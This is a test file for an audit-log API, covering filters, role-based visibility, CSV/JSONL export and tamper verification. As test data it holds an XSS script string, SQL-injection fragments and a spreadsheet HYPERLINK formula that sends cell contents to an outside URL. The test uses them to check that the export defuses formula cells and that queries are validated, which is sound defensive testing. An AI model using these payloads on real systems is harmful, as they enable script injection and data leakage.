import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import * as z from 'zod';
import type { AuditedResource } from '../../../src/audit/audit.ts';
import { createChainer } from '../../../src/audit/chain.ts';
import { hasRole, ROLES, type Role } from '../../../src/auth/roles.ts';
import { apiGroups, routesOf } from '../../../src/http/api/routes.ts';
import { createServiceAccount } from '../../../src/tokens/service-accounts.ts';
import { makeToken } from '../../support/api-tokens.ts';
import { type Json, openTestApp, type TestApp } from '../../support/app.ts';
import { until } from '../../support/until.ts';

const ODD = 'Größe + "x" <script>alert(1)</script> 🗝';
const FORMULA = '=HYPERLINK("https://example.com?"&A1;"😀, ""ü""")';

let app: TestApp;
beforeEach(async () => {
  app = await openTestApp();
});
afterEach(() => app.close());

const logs = async (query = '', options = {}) => {
  const { status, body } = await app.call('GET', `/api/audit-logs${query}`, options);
  expect(status).toBe(200);
  return body;
};
const newEnvironment = async (name: string, headers = {}) =>
  (await app.call('POST', '/api/environments', { body: { name }, headers })).body.environment.id;
const chain = () => createChainer(app.services)(new AbortController().signal);

describe('GET /api/audit-logs', () => {
  it('answers as the contract says, with who did it, from where and in which request', async () => {
    const id = await newEnvironment(ODD, { 'x-request-id': 'req-7' });
    // Not the newest: people were made a moment before, and what happened in one millisecond has no order.
    const made = '?resourceType=environment';
    const [log] = (await logs(made, { token: app.tokens.admin })).logs;
    expect(log).toEqual({
      ...{ id: expect.any(String), action: 'create', resourceType: 'environment', resourceId: id },
      ...{ resourceName: ODD, details: log.details, success: true, error: null, batchId: null },
      createdAt: expect.stringMatching(/^2\d{3}-\d\d-\d\dT[\d:.]{12}Z$/),
      ...{ userId: app.userIds.admin, environmentId: id, apiTokenId: null, serviceAccountId: null },
      user: { id: app.userIds.admin, email: 'admin@example.com', name: null },
      ...{ environment: { id, name: ODD }, serviceAccount: null, tokenPrefix: null },
      ...{ address: '203.0.113.7', requestId: 'req-7', number: null, hash: null },
    });
    await chain();
    expect((await logs(made)).logs[0]).toMatchObject({
      number: expect.any(Number),
      hash: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
  });

  it('filters by what the contract names, and pages by offset and by what comes next', async () => {
    // What happened in one millisecond has no order.
    const ids: string[] = [];
    for (const name of ['ä', 'ö', 'ü']) {
      ids.push(await newEnvironment(name));
      const at = Date.now();
      await until('the next millisecond', 1_000, () => Date.now() > at);
    }
    await app.call('DELETE', `/api/environments/${ids[0]}`);
    const found = async (query: string) => {
      const { logs: rows, total, totalIsExact } = await logs(query);
      return [rows.map((row: Json) => `${row['action']} ${row['resourceName']}`), total, totalIsExact];
    };
    expect(await found('?resourceType=environment')).toEqual([
      ['delete ä', 'create ü', 'create ö', 'create ä'],
      4,
      true,
    ]);
    expect(await found('?resourceType=environment&action=create&limit=2&offset=1')).toEqual([
      ['create ö', 'create ä'],
      3,
      true,
    ]);
    expect(await found(`?resourceId=${ids[0]}`)).toEqual([['delete ä', 'create ä'], 2, true]);
    expect(await found(`?environmentId=${ids[1]}`)).toEqual([['create ö'], 1, true]);
    expect(await found('?resourceType=environment&offset=9')).toEqual([[], 4, true]);
    expect(await found('?action=nothing')).toEqual([[], 0, true]);
    const seen: string[] = [];
    let next: string | null = '';
    while (next !== null) {
      const page: Json = await logs(`?limit=2${next === '' ? '' : `&before=${encodeURIComponent(next)}`}`);
      expect(page['total']).toBeGreaterThanOrEqual(seen.length);
      seen.push(...(page['logs'] as { id: string }[]).map(({ id }) => id));
      next = page['next'] as string | null;
    }
    const { total, logs: whole } = await logs('?limit=1000');
    expect(seen).toEqual(whole.map(({ id }: { id: string }) => id));
    expect(total).toBe(seen.length);
    await chain();
    expect((await logs()).total).toBe(seen.length);
  });

  it('takes a strange limit as none, as the contract says, and refuses what makes no sense', async () => {
    const { logs: usual } = await logs();
    for (const query of ['?limit=0', '?limit=abc', '?limit=-5', '?limit=', '?offset=x', '?nothing=1']) {
      expect((await logs(query)).logs).toEqual(usual);
    }
    for (const query of [
      ...['?since=yesterday', '?until=2026-13-40', '?success=maybe', '?before=x', '?q=%00'],
      `?action=${'ü'.repeat(400)}`,
      '?before=2026-11-29T12:00:00.000Z_%27%20or%201=1',
    ]) {
      const { status, body } = await app.call('GET', `/api/audit-logs${query}`);
      expect([query, status, body.code]).toEqual([query, 400, 'VALIDATION_ERROR']);
    }
    const odd = encodeURIComponent("%' or 1=1; -- \\ _ ");
    expect((await logs(`?q=${odd}&resourceId=${odd}`)).logs).toEqual([]);
  });

  it('names the token and the account of what a machine did, also when both are gone', async () => {
    const nobody = { userId: null, address: null };
    const account = await createServiceAccount(app.services, nobody, { name: 'nightly', role: 'admin' });
    const { token, id } = await makeToken(app, { serviceAccountId: account.id }, { role: 'admin' });
    await app.call('POST', '/api/environments', { token, body: { name: ODD } });
    const [log] = (await logs('?resourceType=environment')).logs;
    expect(log).toMatchObject({
      ...{ apiTokenId: id, tokenPrefix: token.slice(0, 14), serviceAccountId: account.id, userId: null },
      ...{ user: null, serviceAccount: { id: account.id, name: 'nightly' } },
    });
    await app.call('DELETE', `/api/admin/service-accounts/${account.id}`);
    expect((await logs('?resourceType=environment')).logs).toEqual([{ ...log, serviceAccount: null }]);
  });
});

/** Where each thing is read; null: nowhere. */
const READ_AT: Readonly<Record<AuditedResource, string | null>> = {
  user: '/api/users',
  api_token: '/api/admin/tokens',
  service_account: '/api/admin/service-accounts',
  environment: '/api/environments/:id',
  server: '/api/servers/:id',
  database: '/api/databases/:id',
  backup_retention_policy: '/api/databases/:id/backup-policy',
  backup: '/api/backups/:id',
  backup_schedule: '/api/databases/:id/schedule',
  server_blackouts: '/api/servers/:id/blackouts',
  restore_login: '/api/servers/:id/restore-logins',
  ping_target: '/api/databases/:id/ping',
  spaces_config: '/api/settings/spaces',
  spaces_environment: '/api/settings/spaces/environments',
  system_settings: '/api/settings/system',
  notification_type: '/api/admin/notification-types',
  smtp_settings: '/api/settings/smtp',
  oidc_settings: '/api/system/oidc',
  oidc_identity: '/api/system/oidc',
  notification_channel: '/api/admin/notification-channels',
  webhook_subscription: '/api/environments/:envId/webhooks',
  master_key: null,
  audit_log: '/api/audit-logs/export',
};
/** What one is told of by a route of its own. */
const ACTIONS_READ_AT = [
  ['environment', 'ssh_key_access', '/api/environments/:id/ssh-key'],
  ['spaces_config', 'remove_orphan', '/api/settings/spaces/orphans'],
] as const;

describe('what each role reads of the audit', () => {
  const accessOf = (path: string | null): Role => {
    if (path === null) return 'admin';
    const found = routesOf(apiGroups(app.services)).find(
      (route) => route.method === 'GET' && route.path === path,
    );
    return z.enum(ROLES, { error: `no GET ${path} by a role` }).parse(found?.access);
  };
  const rows = () =>
    [
      ...Object.entries(READ_AT).map(([kind, path]) => [kind, 'update', path] as const),
      ...ACTIONS_READ_AT,
      ['of another version', 'update', null] as const,
    ].map(([kind, action, path]) => ({ kind, action, least: accessOf(path) }));

  it.each(ROLES)('a %s: what was done to the things that its own GET shows', async (role) => {
    const stored = rows().map(({ kind, action }, n) => ({
      ...{ id: `r${n}`, action, resource_type: kind, resource_name: ODD, success: 1 as const },
      ...{
        details: '{"host":"smtp.example.com"}',
        created_at: new Date(Date.UTC(2026, 0, 1) + n).toISOString(),
      },
      ...{ address: '198.51.100.9', request_id: 'req-9', token_prefix: 'bport_pat_Ab1_' },
    }));
    await app.services.db.insertInto('audit_logs').values(stored).execute();
    const token = app.tokens[role];
    const { logs: seen } = await logs('?limit=1000&until=2026-02-01', { token });
    const names = seen.map(({ resourceType, action }: Json) => `${resourceType} ${action}`);
    const wanted = rows().filter(({ least }) => hasRole(role, least));
    expect(names.sort()).toEqual(wanted.map(({ kind, action }) => `${kind} ${action}`).sort());
    const traces = seen.map(({ address, requestId, tokenPrefix }: Json) => [address, requestId, tokenPrefix]);
    const expected = role === 'admin' ? ['198.51.100.9', 'req-9', 'bport_pat_Ab1_'] : [null, null, null];
    for (const trace of traces) expect(trace).toEqual(expected);
    const withDetails = (kind: string) =>
      seen.find(({ resourceType }: Json) => resourceType === kind)?.details !== null;
    expect([withDetails('database'), withDetails('backup'), withDetails('system_settings')]).toEqual([
      ...[true, role !== 'viewer', role === 'admin'],
    ]);
  });

  it('tells nobody by a search what it does not show them', async () => {
    const wrong = { body: { email: 'admin@example.com', password: 'wrong wrong wrong' } };
    await app.call('POST', '/api/auth/login', { ...wrong, token: null, from: '198.51.100.9' });
    await newEnvironment(ODD, { 'x-request-id': 'req-9' });
    for (const role of ['viewer', 'operator'] as const) {
      const token = app.tokens[role];
      for (const query of ['?address=203.0.113.7', '?requestId=req-9']) {
        const { status, body } = await app.call('GET', `/api/audit-logs${query}`, { token });
        expect([query, status, body.code]).toEqual([query, 403, 'FORBIDDEN_ROLE']);
      }
      for (const query of ['?q=req-9', '?q=203.0.113', '?q=198.51', '?resourceType=user', '?success=false']) {
        expect([query, await logs(query, { token })]).toMatchObject([query, { logs: [], total: 0 }]);
      }
      expect((await logs('?action=create&q=gr%C3%B6%C3%9Fe', { token })).logs).toHaveLength(1);
    }
    expect((await logs('?success=false')).logs).toHaveLength(1);
  });
});

describe('the export', () => {
  it('is for admins, and audited with what was asked', async () => {
    expect(
      (await app.call('GET', '/api/audit-logs/export?format=csv', { token: app.tokens.operator })).status,
    ).toBe(403);
    expect((await app.call('GET', '/api/audit-logs/export?format=xlsx')).status).toBe(400);
    await newEnvironment(ODD);
    const { status, headers, body } = await app.call(
      'GET',
      '/api/audit-logs/export?format=jsonl&resourceType=environment&q=gr%C3%B6%C3%9Fe',
    );
    expect([status, headers.get('content-type'), headers.get('cache-control')]).toEqual([
      ...[200, 'application/x-ndjson; charset=utf-8', 'no-store'],
    ]);
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="?audit-2\d{3}-\d\d-\d\d\.jsonl/,
    );
    expect(body.trimEnd().split('\n').map(JSON.parse)).toMatchObject([
      { resourceName: ODD, userEmail: 'admin@example.com', success: true },
    ]);
    const [log] = (await logs('?resourceType=audit_log')).logs;
    expect(JSON.parse(log.details)).toEqual({
      format: 'jsonl',
      filters: { resourceType: 'environment', q: 'größe' },
    });
    expect([log.action, log.userId, log.address]).toEqual(['export', app.userIds.admin, '203.0.113.7']);
  });

  it('makes no cell of a spreadsheet a formula, and keeps each in its place', async () => {
    await newEnvironment(FORMULA);
    for (const start of ['+1', '-1', '@x', '\t=1', ' =1', '＝1']) {
      await app.call('PATCH', `/api/users/${app.userIds.viewer}`, { body: { name: `${start} "${ODD}", x` } });
    }
    const { body } = await app.call('GET', '/api/audit-logs/export?format=csv');
    const [head = [], ...rows] = cellsOf(body);
    expect(head.slice(0, 3)).toEqual(['createdAt', 'number', 'action']);
    expect(rows.length).toBe((await logs('?limit=1000')).total);
    for (const row of rows) {
      expect(row).toHaveLength(head.length);
      for (const cell of row) expect(cell).not.toMatch(/^\s*[=+@＝-]/);
    }
    expect(rows.flat()).toContain(`'${FORMULA}`);
  });

  it('gives more rows than one read holds, each once, and ends when nobody reads on', async () => {
    const row = { action: 'update', resource_type: 'user', success: 1 } as const;
    const rows = Array.from({ length: 1203 }, (_, n) => ({
      ...row,
      id: `c${n}`,
      created_at: new Date(Date.UTC(2026, 0, 1) + n).toISOString(),
    }));
    for (let n = 0; n < rows.length; n += 400) {
      await app.services.db
        .insertInto('audit_logs')
        .values(rows.slice(n, n + 400))
        .execute();
    }
    const { body } = await app.call('GET', '/api/audit-logs/export?format=jsonl&until=2026-01-02');
    const ids = body
      .trimEnd()
      .split('\n')
      .map((line: string) => JSON.parse(line).id);
    expect(ids).toEqual(rows.map(({ id }) => id).reverse());
    const response = await app.app.request('/api/audit-logs/export?format=csv', {
      headers: { authorization: `Bearer ${app.tokens.admin}` },
    });
    const reader = response.body?.getReader();
    expect(new TextDecoder().decode((await reader?.read())?.value)).toMatch(/^"createdAt","number"/);
    await reader?.cancel();
  });
});

describe('GET /api/audit-logs/verify', () => {
  it('is for admins, and tells of what was changed past the app', async () => {
    expect((await app.call('GET', '/api/audit-logs/verify', { token: app.tokens.operator })).status).toBe(
      403,
    );
    await newEnvironment(ODD);
    const verify = async () => (await app.call('GET', '/api/audit-logs/verify')).body;
    expect(await verify()).toMatchObject({ intact: true, rows: 0, head: { number: 0 }, start: null });
    await chain();
    const good = await verify();
    expect(good).toMatchObject({
      ...{ intact: true, faults: [], faultCount: 0, lateRows: 0, start: null },
      ...{ head: { number: good.rows }, unchained: { rows: 0, oldestAt: null } },
    });
    const { id } = await app.services.db
      .updateTable('audit_logs')
      .set({ resource_name: 'harmless' })
      .where('action', '=', 'create')
      .where('resource_type', '=', 'environment')
      .returning('id')
      .executeTakeFirstOrThrow();
    const [first, second] = await Promise.all([verify(), verify()]);
    expect(first).toMatchObject({ intact: false, faultCount: 1, faults: [{ kind: 'changed', id }] });
    expect(second).toEqual(first);
  });
});

/** The cells of RFC 4180. */
function cellsOf(text: string): readonly (readonly string[])[] {
  return text
    .split('\r\n')
    .slice(0, -1)
    .map((line) =>
      [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map(([, cell = '']) => cell.replaceAll('""', '"')),
    );
}
